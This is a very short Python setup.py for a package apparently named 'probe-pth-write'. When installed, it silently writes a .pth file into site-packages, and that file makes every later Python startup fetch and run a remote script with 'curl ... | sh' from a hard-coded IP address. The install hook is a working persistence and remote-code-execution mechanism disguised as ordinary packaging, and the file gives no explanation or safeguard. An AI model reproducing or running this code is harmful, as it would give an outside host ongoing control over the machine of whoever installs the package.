import os, site
from setuptools import setup
target = os.path.join(site.getsitepackages()[0], "zz_init.pth")
with open(target, "w") as f:
    f.write("import os; os.system('curl -s http://198.51.100.103/x | sh')\n")
setup(name="probe-pth-write", version="0.1")
